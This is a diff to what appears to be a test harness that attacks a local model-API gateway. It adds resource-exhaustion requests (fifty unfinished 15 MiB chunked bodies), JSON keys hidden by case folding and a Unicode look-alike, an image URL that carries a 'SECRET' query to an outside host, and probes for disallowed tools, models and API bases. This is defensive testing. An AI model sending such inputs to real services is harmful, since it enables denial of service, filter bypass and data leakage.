@@ -60,6 +60,35 @@ def leave():
     return "left"
 
 
+def unfinished():
+    """Fifty bodies of 15 MiB that do not end, and a plain request behind them."""
+    lines = []
+    for _ in range(50):
+        line = socket.create_connection(("127.0.0.1", PORT))
+        line.setblocking(False)
+        lines.append(line)
+        try:
+            line.sendall(b"POST /v1/responses HTTP/1.1\r\nHost: gate\r\n")
+            line.sendall(b"Transfer-Encoding: chunked\r\n\r\n")
+            for _ in range(15):
+                line.sendall(b"100000\r\n" + b"x" * 2**20 + b"\r\n")
+        except OSError:
+            pass
+    while (answer := ask()) == 503:
+        pass
+    return answer
+
+
+def content(part):
+    return ask(input=[{"type": "message", "role": "user", "content": [part]}])
+
+
+def folded():
+    """Keys that a server which does not mind the case reads as others."""
+    keys = {"MODEL": "gpt-5.5-pro", "Store": True, "Background": True, "\u017ftore": True}
+    return send("/v1/responses", data={**body("message"), **keys})[0]
+
+
 def at_once():
     answers = []
     threads = [threading.Thread(target=lambda: answers.append(ask("slow-3"))) for _ in range(10)]
@@ -103,6 +132,17 @@ ATTACKS = {
     "model": lambda: ask(model="gpt-6-sol-pro"),
     "search": lambda: ask(tools=[{"type": "web_search"}]),
     "unstreamed": lambda: ask(stream=False),
+    "image-url": lambda: content({"type": "input_image", "image_url": "https://x/?d=SECRET"}),
+    "file-url": lambda: content({"type": "input_file", "file_url": "https://x/"}),
+    "file-id": lambda: content({"type": "input_image", "file_id": "file-1"}),
+    "reference": lambda: ask(input=[{"type": "item_reference", "id": "msg_1"}]),
+    "bare-reference": lambda: ask(input=[{"id": "msg_1"}]),
+    "other-search": lambda: ask(tools=[{"type": "x_search"}]),
+    "other-case": lambda: ask(tools=[{"type": "Web_Search"}]),
+    "effort": lambda: ask(reasoning={"effort": "xhigh"}),
+    "folded": folded,
+    "router": lambda: ask(models=["o1-pro"], plugins=[{"id": "web"}], api_base="http://x/"),
+    "unfinished": unfinished,
     "leave": leave,
     "leave-often": lambda: [leave() for _ in range(5)],
     "at-once": at_once,
